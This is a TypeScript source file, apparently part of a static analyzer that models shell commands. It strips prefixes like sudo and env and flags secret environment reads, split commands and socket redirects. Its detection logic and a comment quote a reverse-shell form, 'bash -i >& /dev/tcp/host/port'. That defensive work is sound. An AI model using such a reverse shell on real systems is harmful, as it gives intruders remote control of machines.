import { isSecretName } from '../classify/env-class.ts'
import { plainPath } from '../classify/path-class.ts'
import { execute } from '../effects/execute.ts'
import { place } from '../effects/files.ts'
import { interpreters, programName } from '../effects/interpreters.ts'
import type { Machine } from '../machine.ts'
import { carried, sourcesOf, sourceValue, unknownValue, type Value } from '../value.ts'
import type { Command } from './command.ts'
import { commandRows } from './command-rows.ts'
import { interpret } from './interpret.ts'
import { tellOptions } from './tell-options.ts'

const prefixes = new Set(
  'sudo doas nohup time timeout nice ionice stdbuf exec command builtin setsid busybox then do else if while until ! & start caffeinate unbuffer strace env xargs parallel watch'.split(
    ' ',
  ),
)
const prefixesMax = 8

/** Run one command of a shell: known programs by their row, interpreters by what they are given. */
export function runCommand(machine: Machine, given: Omit<Command, 'name'>): Value {
  const command = withoutPrefixes(machine, given)
  const [first] = command.words
  if (first === undefined)
    return given.words.length > 0 ? environmentOf(machine, given) : given.stdin
  const name = first.text === undefined ? '' : programName(first.text)
  if (first.isFolded && first.text !== undefined && isKnown(name))
    machine.emit({
      act: 'hides',
      object: 'split-command',
      target: first.text,
      ...place(command.span),
    })
  if (/^[a-z][\w.+-]{0,40}$/u.test(name)) machine.program(name, command.span)
  tellOptions(machine, { ...command, name })
  socketRedirect(machine, { ...command, name })
  if (first.sources.length > 0 && (first.text === undefined || first.text === '\ufffc'))
    return execute(machine, first, { language: 'shell', span: command.span })
  const row = commandRows.get(name)
  if (row !== undefined) return row(machine, { ...command, name })
  if (interpreters.has(name)) return interpret(machine, { ...command, name })
  if (first.text !== undefined && /[/\\]|\.(?:sh|py|js|exe|bat|cmd|ps1)$/iu.test(first.text))
    runFile(machine, first.text, command)
  // `$(TOKEN)`: a variable in the manner of make and of pipelines.
  if (
    command.words.length === 1 &&
    /^[A-Z][A-Z0-9_]+$/u.test(first.text ?? '') &&
    isSecretName(first.text ?? '')
  )
    return sourceValue([
      { act: 'reads', object: 'secret-env', target: first.text ?? '', ...place(command.span) },
    ])
  const routine = machine.variable(name)
  if (routine.routine !== undefined)
    return carried([machine.variable(`${name}()`), ...command.words.slice(1), command.stdin])
  return carried([...command.words.slice(1), command.stdin])
}

function isKnown(name: string): boolean {
  return commandRows.has(name) || interpreters.has(name)
}

/** `sudo env X=1 nohup cmd …` is `cmd …`. */
function withoutPrefixes(machine: Machine, command: Omit<Command, 'name'>): Omit<Command, 'name'> {
  let words = command.words
  for (let count = 0; count < prefixesMax; count += 1) {
    const name = words[0]?.text === undefined ? '' : programName(words[0].text)
    if (!prefixes.has(name)) break
    let next = 1
    while (
      next < words.length &&
      /^-|^\d+[smh]?$|^[A-Za-z_]\w*=|^\{\}$/u.test(words[next]?.text ?? '')
    )
      next += /^-(?:u|g|n|I|P|L)$/u.test(words[next]?.text ?? '') && name !== 'nohup' ? 2 : 1
    if (name === 'env' && next >= words.length) return { ...command, words }
    if (next >= words.length && name === 'exec') return { ...command, words }
    if (name === 'sudo' || name === 'doas')
      machine.emit({
        act: 'runs',
        object: 'system-setting',
        target: 'sudo',
        ...place(command.span),
      })
    words = words.slice(next)
  }
  return { ...command, words }
}

function environmentOf(machine: Machine, command: Omit<Command, 'name'>): Value {
  const row = commandRows.get('printenv')
  return row === undefined ? unknownValue : row(machine, { ...command, name: 'env', words: [] })
}

/** Run a file that this code made: what it holds is what runs. */
function runFile(
  machine: Machine,
  path: string,
  { span }: { readonly span: Command['span'] },
): void {
  const held =
    machine.files.get(plainPath(path)) ?? machine.files.get(plainPath(path).replace(/^\.\//u, ''))
  if (held !== undefined && held.sources.length > 0)
    execute(machine, { ...held, text: undefined }, { language: 'shell', span })
}

/** `bash -i >& /dev/tcp/host/port`: input and output of a shell on a socket. */
function socketRedirect(machine: Machine, { name, targets, stdin, span }: Command): void {
  const socket = targets.find(({ value }) => /^\/dev\/(?:tcp|udp)\//u.test(value.text ?? ''))
  if (socket === undefined) return
  const target = socket.value.text ?? ''
  const isShell = interpreters.get(name) === 'shell' || name === 'exec' || name === ''
  if (isShell) machine.emit({ act: 'runs', object: 'reverse-shell', target, ...place(span) })
  else machine.emit({ act: 'sends', object: 'host', target, ...place(span) }, sourcesOf([stdin]))
}
